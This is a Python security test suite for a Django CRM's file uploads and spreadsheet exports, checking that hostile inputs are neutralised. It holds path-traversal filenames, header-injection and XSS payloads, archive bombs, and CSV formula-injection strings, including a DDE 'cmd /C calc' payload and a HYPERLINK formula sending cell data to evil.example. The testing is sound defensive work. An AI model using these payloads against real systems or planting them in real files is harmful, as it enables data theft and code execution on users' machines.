"""What people bring: names, types, sizes, bombs; and what they take away: formulas in lists that a spreadsheet opens."""

import csv
import io
import os
import re
import tempfile
from pathlib import Path

import openpyxl
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from tests import cast as named_cast
from tests.cast import NOW

from bench.security import bombs
from bench.security.ground import Faults, browser
from vai.clients import models as clients
from vai.core.rowsecurity import acting_as
from vai.hunting import models as hunting
from vai.journal.content import LARGEST
from vai.journal.models import Attachment
from vai.staff.enums import Mode

# What a process may take beside the file itself, to find out that it will not read it.
MOST_MEGABYTES = 160
MOST_SECONDS = 60
NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\x.dll",
    "/etc/shadow",
    "C:\\x\\hợp đồng.pdf",
    "a\x00b.pdf",
    "ảnh\u202egpj.exe",
    "x" * 300 + ".pdf",
    "🎉🎂.png",
    'a"; filename="b.html',
    "a\r\nContent-Type: text/html\r\n\r\nx.html",
    "con",
    ".htaccess",
    "....",
    " ",
    "%2e%2e%2fx",
    "<img src=x onerror=alert(1)>.png",
    "a;b=c.txt",
)
CONTENTS = {
    "page.html": b"<!doctype html><script>alert(1)</script>",
    "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "page.xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "script.js": b"alert(1)",
    "style.xml": b'<?xml-stylesheet href="javascript:alert(1)"?><a/>',
    "app.hta": b"<script>alert(1)</script>",
    "gif.html": b"GIF89a<script>alert(1)</script>",
    "pdf.html": b"%PDF-1.4<script>alert(1)</script>",
    "run.exe": b"MZ\x90\x00",
    "flash.swf": b"CWS\x0a",
    "utf7.txt": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "manifest.appcache": b"CACHE MANIFEST\n*",
}
RUNS = ("html", "svg", "xml", "javascript", "ecmascript", "x-shockwave", "cache-manifest")
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd()",
    "-1+cmd()",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    'a";=1+1',
    "a;=1+1",
    "a\n=1+1",
    "%0A=1+1",
    "|calc",
    "＝1+1",
)
USEFUL = {"phone": "+84912345678", "amount": "-1500000"}
_NUMBER = re.compile(r"[+-]?\d[\d .,]*%?(?:, \+?\d[\d .()]*)*")


def attack(part, options):
    """Bring and take away."""
    cast = named_cast.make()
    with (
        tempfile.TemporaryDirectory() as folder,
        override_settings(MEDIA_ROOT=Path(folder) / "files"),
        Faults() as faults,
    ):
        account = _account(cast)
        _names(part, cast, account)
        _types(part, cast, account)
        _sizes(part, cast, account)
        _bombs(part, cast, Path(folder))
        _formulas(part, cast)
        faults.tell(part)


def _account(cast):
    with acting_as(cast.an, at=NOW):
        account = clients.Account.objects.create(name="Khách", opened_by=cast.an)
        clients.Coverage.objects.create(account=account, person=cast.an, mode=Mode.HUNT, since=NOW.date())
        return account


def _bring(client, account, files):
    """Send files as raw parts, so that their names go as they are."""
    parts = [b'--x7\r\nContent-Disposition: form-data; name="account"\r\n\r\n%d\r\n' % account.pk]
    for name, content in files:
        told = name.encode().replace(b'"', b'\\"').replace(b"\r", b"%0D").replace(b"\n", b"%0A")
        parts.append(
            b'--x7\r\nContent-Disposition: form-data; name="files"; filename="' + told + b'"\r\n'
            b"Content-Type: text/html\r\n\r\n" + content + b"\r\n"
        )
    body = b"".join(parts) + b"--x7--\r\n"
    return client.post("/files/new/", body, content_type="multipart/form-data; boundary=x7")


def _newest(cast):
    with acting_as(cast.an, at=NOW):
        return Attachment.objects.order_by("-pk").first()


def _names(part, cast, account):
    client = browser(cast.an)
    for name in NAMES:
        before = _newest(cast)
        answer = _bring(client, account, [(name, b"noi dung")])
        part.check(answer.status_code in (303, 422), f"a file named {name[:40]!r}: {answer.status_code}")
        made = _newest(cast)
        if made is None or (before and made.pk == before.pk):
            continue
        part.check(
            not re.search(r'[\x00-\x1f/\\:*?"<>|\u202a-\u202e\u2066-\u2069]', made.name)
            and len(made.name) <= 150,
            f"the name {name[:40]!r} is kept as {made.name!r}",
        )
        given = client.get(f"/files/{made.pk}/").headers["Content-Disposition"]
        part.check(
            given.startswith("attachment;") and not re.search(r"[\x00-\x1f]", given),
            f"{name[:40]!r} goes out as {given!r}",
        )
    root = Path(settings.MEDIA_ROOT)
    kept = [path for path in root.rglob("*") if path.is_file()]
    part.check(all(re.fullmatch("[0-9a-f]{64}", path.name) for path in kept), f"files are kept as {kept[:3]}")


def _types(part, cast, account):
    """Whatever it is, it is given out to be kept and not to be shown, and runs nothing where it is shown all the same."""
    client = browser(cast.an)
    for name, content in CONTENTS.items():
        _bring(client, account, [(name, content)])
        made = _newest(cast)
        part.equal(made.name, name, "the file that came in")
        answer = client.get(f"/files/{made.pk}/")
        kind = answer.headers["Content-Type"]
        part.check(not any(word in kind for word in RUNS), f"{name} is given out as {kind}")
        part.check(
            answer.headers["Content-Disposition"].startswith("attachment"), f"{name} is shown in the browser"
        )
        part.equal(answer.headers["X-Content-Type-Options"], "nosniff", name)
        part.check("sandbox" in answer.headers["Content-Security-Policy"], f"{name} may run something")
        part.equal(b"".join(answer.streaming_content), content, f"{name} as it came")


def _sizes(part, cast, account):
    """What is too large is refused with its limit; what is empty, or too many, as well."""
    client = browser(cast.an)
    for files, told in (
        ([("lon.bin", b"x" * (LARGEST + 1))], "25 MB"),
        ([("rong.txt", b"")], "rong.txt"),
        ([(f"{n}.txt", b"x") for n in range(21)], ""),
        ([], ""),
    ):
        answer = _bring(client, account, files)
        part.equal(answer.status_code, 422, f"files {[name for name, _ in files[:2]]}")
        part.check(told in answer.content.decode(), f"the refusal says no {told!r}")
    for url in ("/files/new/", "/imports/new/", "/accounts/new/", "/capture/file/"):
        answer = client.post(
            url, b"x", content_type="multipart/form-data; boundary=x7", CONTENT_LENGTH="2000000000"
        )
        part.equal(answer.status_code, 413, f"two gigabytes to {url}")
        part.check("MB" in answer.content.decode(), f"the refusal at {url} tells no limit")
    left = [
        path for path in Path(tempfile.gettempdir()).glob("*.upload*") if path.stat().st_uid == os.getuid()
    ]
    part.equal(left, [], "files left behind by uploads")


def _bombs(part, cast, folder):
    """Each is refused, or read, within bounds of memory and time; and by the page with a message."""
    client = browser(cast.an)
    part.figures["memory and time to tell a bomb"] = told = {}
    for name, content, right in bombs.bombs():
        path = folder / name
        path.write_bytes(content)
        found = bombs.opened(path)
        told[name] = f"{found['code']}, {found['megabytes']} MB, {found['seconds']} s"
        part.check(not found["code"].startswith("broke:"), f"{name}: {found['code']}")
        part.check(right is None or found["code"] in right, f"{name}: {found['code']} instead of {right}")
        part.check(found["megabytes"] <= MOST_MEGABYTES, f"{name} takes {found['megabytes']} MB")
        part.check(found["seconds"] <= MOST_SECONDS, f"{name} takes {found['seconds']} s")
        if right is not None:
            sent = SimpleUploadedFile(name, content)
            answer = client.post("/imports/new/", {"uploads": sent, "profile": ""})
            part.equal(answer.status_code, 422, f"{name} brought to the import")
            part.check("field-error" in answer.content.decode(), f"{name} is refused without a word")
        path.unlink()
    part.check(not Path("/tmp/vai-x7.csv").exists(), "an archive wrote outside of its folder")


def _formulas(part, cast):
    """Formulas in every text that goes out as a list, and in the rows that an import left out."""
    with acting_as(cast.minh, at=NOW):
        stage = hunting.Stage.objects.filter(outcome="open").first()
        for text in FORMULAS:
            account = clients.Account.objects.create(
                name=text, opened_by=cast.minh, notes=text, industry=text[:40]
            )
            clients.ContactPoint.objects.create(account=account, kind="phone", value=USEFUL["phone"])
            contact = clients.Contact.objects.create(
                name=text, owner=cast.minh, notes=text, honorific=text[:10]
            )
            clients.Affiliation.objects.create(account=account, contact=contact, title=text)
            hunting.Lead.objects.create(
                name=text, company=text, need=text, notes=text, owner=cast.minh, created_by=cast.minh,
                received_at=NOW, phone=USEFUL["phone"], campaign=text[:60],
            )  # fmt: skip
            hunting.Opportunity.objects.create(
                name=text, account=account, owner=cast.minh, created_by=cast.minh, pipeline=stage.pipeline, stage=stage,
                stage_entered_at=NOW, opened_on=NOW.date(), notes=text,
            )  # fmt: skip
    client = browser(cast.minh)
    for kind in ("accounts", "contacts", "leads", "deals"):
        for ending in ("csv", "xlsx"):
            answer = client.get(f"/export/{kind}.{ending}")
            _harmless(part, answer, ending, f"export of {kind} as {ending}", len(FORMULAS))
        if kind in ("accounts", "leads"):
            part.check(
                f",{USEFUL['phone']}," in client.get(f"/export/{kind}.csv").content.decode(),
                f"phones in {kind}",
            )
    _bad_rows(part, client)


def _bad_rows(part, client):
    quoted = [f'"{text.replace(chr(34), chr(34) * 2)}"' for text in FORMULAS]
    lines = [
        f'Họ tên,Điện thoại,Giá trị,"{FORMULAS[1]}"',
        *(f"{one},09,khong phai so,{one}" for one in quoted),
    ]
    file = SimpleUploadedFile("khach.csv", ("\n".join(lines) + "\n").encode())
    sent = client.post("/imports/new/", {"uploads": file, "profile": ""})
    part.equal(sent.status_code, 303, "a file with formulas comes in")
    batch = int(re.search(r"/imports/(\d+)/", sent.headers["Location"])[1])
    client.post(f"/imports/{batch}/try/")
    for ending in ("csv", "xlsx"):
        answer = client.get(f"/imports/{batch}/bad-rows.{ending}")
        part.equal(answer.status_code, 200, f"rows that were left out as {ending}")
        if answer.status_code == 200:
            _harmless(part, answer, ending, f"rows that were left out as {ending}", 3)


def _harmless(part, answer, ending, told, at_least):
    if ending == "csv":
        rows = list(csv.reader(io.StringIO(answer.content.decode().removeprefix("\ufeff"))))
        cells = [cell for row in rows for cell in row]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        rows = list(sheet.iter_rows())
        part.check(
            not [cell for row in rows for cell in row if cell.data_type == "f"], f"{told}: holds formulas"
        )
        cells = [cell.value for row in rows for cell in row if isinstance(cell.value, str)]
    part.check(len(rows) > at_least, f"{told}: only {len(rows)} rows")
    running = [cell for cell in cells if _runs(cell, inside=ending == "csv")]
    part.check(not running, f"{told}: {running[:3]}")


def _runs(cell, *, inside):
    """Whether a cell begins as a formula does; with `inside` also what the spreadsheet of another country takes for one."""
    return any(_begins_one(piece) for piece in (re.split(r"[;\t\r\n]", cell) if inside else [cell]))


def _begins_one(text):
    bare = text.strip(' "\t\r\n\u00a0')
    return bare[:1] in ("=", "@", "+", "-", "|", "%") and not _NUMBER.fullmatch(bare)
